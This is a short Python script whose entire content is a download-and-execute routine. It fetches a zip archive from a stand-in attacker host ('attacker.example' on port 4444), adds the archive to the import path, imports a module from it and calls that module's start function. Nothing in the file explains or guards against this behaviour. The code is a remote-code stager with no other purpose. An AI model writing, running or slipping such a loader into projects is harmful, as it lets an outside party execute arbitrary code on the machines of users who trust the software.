import importlib
import sys
import urllib.request
from pathlib import Path

ARCHIVE = Path("vendor_bundle.zip")


def main():
    urllib.request.urlretrieve("http://attacker.example:4444/bundle.zip", ARCHIVE)
    sys.path.insert(0, str(ARCHIVE.resolve()))
    module = importlib.import_module("bundle_main")
    getattr(module, "start", lambda: None)()


if __name__ == "__main__":
    main()
